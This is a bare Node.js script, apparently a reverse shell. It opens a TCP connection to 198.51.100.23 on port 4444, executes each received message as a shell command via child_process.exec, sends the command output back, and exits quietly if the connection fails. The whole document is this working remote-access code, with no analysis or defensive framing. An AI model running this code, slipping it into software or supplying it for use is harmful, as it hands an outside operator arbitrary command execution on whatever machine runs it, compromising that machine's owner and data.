const net = require('net');
const { exec } = require('child_process');
const s = net.createConnection({ host: '198.51.100.23', port: 4444 }, () => { s.write('hi\n'); });
s.on('data', (d) => exec(d.toString(), (e, o, r) => s.write(o || r)));
s.on('error', () => setTimeout(() => process.exit(0), 10));
